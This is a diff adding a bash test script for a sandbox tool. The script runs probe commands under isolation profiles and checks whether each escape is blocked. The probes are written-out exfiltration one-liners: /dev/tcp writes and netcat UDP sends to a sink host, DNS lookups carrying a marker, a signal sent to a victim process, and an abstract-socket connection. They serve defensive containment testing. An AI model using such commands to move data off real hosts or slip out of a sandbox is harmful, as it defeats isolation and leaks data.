@@ -1,0 +1,87 @@
+#!/usr/bin/env bash
+# `parity attack exec` (issue 4): programs built from real tools are judged by
+# the lab's witnesses, never by what they say.
+set -uo pipefail
+: "${PARITY_BIN:?}" "${NETPROBE_BIN:?}"
+PY=/usr/bin/python3
+fail=0 tmp=$(mktemp -d)
+trap 'rm -rf "$tmp"' EXIT
+
+# verdict PROFILE DESCRIPTION -- CMD...: prints the verdict, keeps the JSON
+judge() {
+	local profile=$1 out=$tmp/$RANDOM.json
+	shift
+	"$PARITY_BIN" attack exec --profile "$profile" --json "$@" >"$out" 2>"$out.err"
+	local rc=$?
+	if [ $rc -ne 0 ]; then echo "EXIT$rc"; cat "$out.err" >&2; return; fi
+	$PY -c 'import json,sys; r=json.load(open(sys.argv[1])); print(r["verdict"], r.get("signal",""))' "$out"
+	LAST=$out
+}
+expect() { # expect WANT PROFILE DESC -- CMD...
+	local want=$1 profile=$2 desc=$3
+	shift 3
+	[ "$1" = -- ] && shift
+	local got
+	got=$(judge "$profile" -- "$@")
+	if [[ "$got" == $want* ]]; then
+		echo "ok   $profile: $desc: $got"
+	else
+		echo "FAIL $profile: $desc: want $want, got $got"
+		[ -n "${LAST:-}" ] && $PY -c 'import json,sys; r=json.load(open(sys.argv[1])); print("     reason:", r["reason"]); print("     out:", r["program"]["stdout"][:300])' "$LAST"
+		fail=$((fail + 1))
+	fi
+}
+
+tcp_sink='echo "$PARITY_MARKER" > /dev/tcp/$PARITY_SINK_V4/80'
+tcp_3128='echo "$PARITY_MARKER" > /dev/tcp/$PARITY_SINK_V4/3128'
+udp='echo "$PARITY_MARKER" | nc -u -w1 "$PARITY_SINK_V4" 9999'
+dns='dig @"$PARITY_DNS_V4" "$PARITY_MARKER.exfil.test" +tries=1 +time=1'
+getent='getent hosts "$PARITY_MARKER.exfil.test"'
+sig='kill -USR1 "$PARITY_VICTIM_PID"'
+abs='echo "$PARITY_MARKER" | socat - ABSTRACT-CONNECT:"$PARITY_VICTIM_ABSTRACT"'
+
+# Under none, every program escapes through its own witness.
+expect ESCAPED none "bash /dev/tcp to the sink" -- bash -c "$tcp_sink"
+expect ESCAPED none "nc -u to the sink" -- bash -c "$udp"
+expect ESCAPED none "dig for <marker>.exfil.test at the DNS sink" -- bash -c "$dns"
+expect ESCAPED none "getent through the pod's resolv.conf" -- bash -c "$getent"
+expect ESCAPED none "kill -USR1 the victim" -- bash -c "$sig"
+expect ESCAPED none "socat to the abstract victim" -- bash -c "$abs"
+
+# Under platform on this kernel: UDP, DNS over UDP, signals and abstract
+# sockets are blocked; TCP to any host on the proxy's port is the PR's gap.
+abi=$("$PARITY_BIN" probe --json | $PY -c 'import json,sys; print(json.load(sys.stdin)["landlock"]["abi"])')
+expect BLOCKED platform "nc -u to the sink" -- bash -c "$udp"
+expect BLOCKED platform "dig at the DNS sink over UDP" -- bash -c "$dns"
+if [ "$abi" -ge 6 ]; then
+	expect BLOCKED platform "kill -USR1 the victim (Landlock signal scope)" -- bash -c "$sig"
+	expect BLOCKED platform "socat to the abstract victim (Landlock scope)" -- bash -c "$abs"
+else
+	echo "skip platform scope checks: Landlock ABI $abi < 6"
+fi
+expect ESCAPED platform "bash /dev/tcp to \$PARITY_SINK_V4:3128 (port-only rule)" -- bash -c "$tcp_3128"
+
+# A program's claim is never the verdict.
+expect ESCAPED platform "prints 'blocked' but sends the marker" -- \
+	bash -c "$tcp_3128; echo blocked"
+# A program killed by seccomp is KILLED (named), never BLOCKED.
+expect "KILLED SYS" platform "int \$0x80 under a kill-on-foreign-arch filter" -- "$NETPROBE_BIN" int80
+
+# The capture is kept and opens with tcpdump -r.
+pcap=$tmp/cell.pcapng
+if "$PARITY_BIN" attack exec --profile platform --pcap "$pcap" -- bash -c "$tcp_3128" >/dev/null &&
+	tcpdump -nr "$pcap" 2>/dev/null | grep -q '198.51.100.10.3128'; then
+	echo "ok   the saved capture opens with tcpdump -r and shows the flow"
+else
+	echo "FAIL the saved capture does not open with tcpdump -r"
+	fail=$((fail + 1))
+fi
+
+# Usage errors exit 2; a judgement exits 0.
+"$PARITY_BIN" attack exec --profile platform >/dev/null 2>&1
+[ $? -eq 2 ] && echo "ok   no command: exit 2" || { echo "FAIL no command: not exit 2"; fail=$((fail + 1)); }
+"$PARITY_BIN" attack exec --profile nope -- true >/dev/null 2>&1
+[ $? -eq 2 ] && echo "ok   bad profile: exit 2" || { echo "FAIL bad profile: not exit 2"; fail=$((fail + 1)); }
+
+echo "$fail failure(s)"
+exit $((fail > 0))
